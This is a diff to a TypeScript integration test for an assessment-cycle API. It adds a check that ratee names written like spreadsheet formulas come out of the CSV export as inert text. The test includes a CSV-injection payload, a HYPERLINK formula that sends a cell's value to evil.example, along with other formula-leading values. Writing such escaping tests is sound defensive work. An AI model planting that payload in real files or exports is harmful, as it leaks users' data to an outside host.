@@ -2,11 +2,11 @@ import { randomUUID } from 'node:crypto';
 import type { TestWorkflowEnvironment } from '@temporalio/testing';
 import type { Worker } from '@temporalio/worker';
 import ExcelJS from 'exceljs';
-import { count, eq } from 'drizzle-orm';
+import { and, count, eq } from 'drizzle-orm';
 import request from 'supertest';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createActivities } from '../../activities';
-import { assessmentCycles, assessmentScores, calendarYears, caseClocks, cases, incidentFacts, NATIONAL_REGION, notices, summonsDepartments, type IncidentFacts } from '../../db/schema';
+import { assessmentCycles, assessmentRatees, assessmentScores, calendarYears, caseClocks, cases, incidentFacts, NATIONAL_REGION, notices, summonsDepartments, type IncidentFacts } from '../../db/schema';
 import { DEMO_ASSESSMENT_SCHEMES } from '../../db/seed/assessment';
 import { previousPeriod } from '../../domain/assessment';
 import { assessmentScheduleId, ensureAssessmentSchedules } from '../../worker/assessment-schedules';
@@ -272,6 +272,32 @@ describe('a monthly county-to-township cycle through the API', () => {
     expect(sheet.getRow(2).getCell(2).value).toBe('考核对象');
     expect(sheet.getRow(3).getCell(2).value).toBe('东坝头镇');
     expect(sheet.getRow(3).getCell(4).value).toBe(95);
+  });
+
+  it('CSV export: a ratee named like a formula comes out as text, not a live cell', async () => {
+    // Names are snapshotted at cycle open; give two ratees names a hostile admin could have typed.
+    const rename = (key: string, name: string) => t.tdb.db.update(assessmentRatees).set({ name }).where(and(eq(assessmentRatees.caseId, id), eq(assessmentRatees.rateeKey, key))).returning({ old: assessmentRatees.name });
+    const hostile = { 'unit:lk.t01': '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', 'unit:lk.t03': '+1+2', 'unit:lk.t02': '\t@SUM(1)' };
+    const originals = new Map<string, string>();
+    for (const [key, name] of Object.entries(hostile)) originals.set(key, (await rename(key, name))[0]!.old);
+    try {
+      const csv = await api().get(`/api/v1/assessment/cycles/${id}/export.csv`).set(await auth('lk.assessor')).buffer(true).parse((res, cb) => {
+        const chunks: Buffer[] = [];
+        res.on('data', (c: Buffer) => chunks.push(c));
+        res.on('end', () => cb(null, Buffer.concat(chunks)));
+      });
+      expect(csv.status).toBe(200);
+      const lines = (csv.body as Buffer).toString('utf8').slice(1).trim().split('\r\n');
+      const nameCell = (key: string) => lines.find((l) => l.includes(`,${key},`))!.split(`,${key},`)[0]!.replace(/^\d+,/, '');
+      expect(nameCell('unit:lk.t01')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击查看"")"`);
+      expect(nameCell('unit:lk.t03')).toBe(`"'+1+2"`);
+      expect(nameCell('unit:lk.t02')).toBe(`"'\t@SUM(1)"`);
+      // Numbers stay numeric cells; no line starts a cell with a formula character.
+      expect(lines[1]).toMatch(/^1,/);
+      for (const line of lines) expect(line).not.toMatch(/(^|,)[=+@\t]/);
+    } finally {
+      for (const [key, name] of originals) await rename(key, name);
+    }
   });
 
   it('a cycle opened after the scheme change uses the new version; a unit’s history spans cycles', async () => {
